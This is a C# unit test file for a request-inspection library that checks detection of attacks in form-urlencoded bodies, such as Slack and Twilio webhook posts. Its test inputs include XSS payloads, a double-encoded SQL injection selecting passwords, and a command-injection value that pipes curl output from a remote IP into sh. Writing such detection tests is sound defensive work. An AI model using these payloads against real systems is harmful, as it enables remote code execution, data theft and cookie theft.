using System.Text;
using ServerlessShield.Tests.Support;

namespace ServerlessShield.Tests.Http;

// Form posts (browser forms, Slack slash commands and interactive payloads, Twilio webhooks): each field is inspected
// under its own name, decoded as the handler's framework decodes it.
public class FormUrlEncodedTests
{
    private static readonly HttpRequestParts Form = new() { Method = "POST", Path = "/hooks", ContentType = "application/x-www-form-urlencoded; charset=utf-8" };

    [Fact]
    public async Task CleanForm_IsAllowed()
    {
        var result = await Run("name=Anna+Smith&email=anna%40example.com&message=Hello%21+Can+you+call+me%3F+%3A-%29&consent=on");

        Assert.Equal(ShieldOutcomeKind.Allowed, result.Outcome.Kind);
    }

    [Fact]
    public async Task AttackInAField_IsReportedAtThatField()
    {
        var result = await Run("name=Anna&message=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E");

        Assert.Equal(ShieldRules.CrossSiteScripting, result.Outcome.Rule);
        Assert.Equal("body.message", result.Findings[0].FieldPath);
    }

    // Slack posts interactive components as one field whose value is URL-encoded JSON.
    [Fact]
    public async Task JsonInAField_KeepsItsOwnPaths()
    {
        var payload = "{\"type\":\"block_actions\",\"actions\":[{\"action_id\":\"approve\",\"value\":\"1; curl http://203.0.113.9/x | sh\"}]}";

        var result = await Run("payload=" + Uri.EscapeDataString(payload));

        Assert.Equal(ShieldRules.CommandInjection, result.Outcome.Rule);
        Assert.Equal("body.payload.actions[0].value", result.Findings[0].FieldPath);
    }

    [Fact]
    public async Task DoubleEncodedAttack_IsStillDecoded()
    {
        var result = await Run("q=1%2527%2520union%2520select%2520password%2520from%2520users--");

        Assert.Equal(ShieldRules.SqlInjection, result.Outcome.Rule);
        Assert.Equal("body.q", result.Findings[0].FieldPath);
    }

    // A name that is not a plain name is data: it is inspected, and the finding names the field by position, so the
    // client's text stays out of paths and log lines (a JSON document posted as a form is all name).
    [Theory]
    [InlineData("a=1&%3Csvg+onload%3Dalert(1)%3E=1", "body[1]")]
    [InlineData("{\"note\":\"<script>alert(1)</script>\"}", "body[0]")]
    public async Task SuspiciousFieldName_IsInspectedAndNamedByPosition(string body, string path)
    {
        var result = await Run(body);

        Assert.Equal(ShieldRules.CrossSiteScripting, result.Outcome.Rule);
        Assert.Equal(path, result.Findings[0].FieldPath);
    }

    [Theory]
    [InlineData("application/x-www-form-urlencoded", true)]
    [InlineData("Application/X-WWW-Form-UrlEncoded; charset=UTF-8", true)]
    [InlineData("application/json", false)]
    [InlineData(null, false)]
    public void IsMediaType_ReadsTheContentType(string? contentType, bool expected) =>
        Assert.Equal(expected, FormUrlEncoded.IsMediaType(contentType));

    [Fact]
    public void Read_DecodesPairsInOrder()
    {
        var pairs = FormUrlEncoded.Read("a=1&b=x+y&&c&d=%E2%82%AC%zz");

        Assert.Equal([new("a", "1"), new("b", "x y"), new("c", ""), new("d", "€%zz")], pairs);
    }

    private static Task<InvocationResult> Run(string body) =>
        new TestEngine().RunAsync("hook", [new ShieldInput("body", Encoding.UTF8.GetBytes(body), InputFormat.FormUrlEncoded)], http: Form);
}
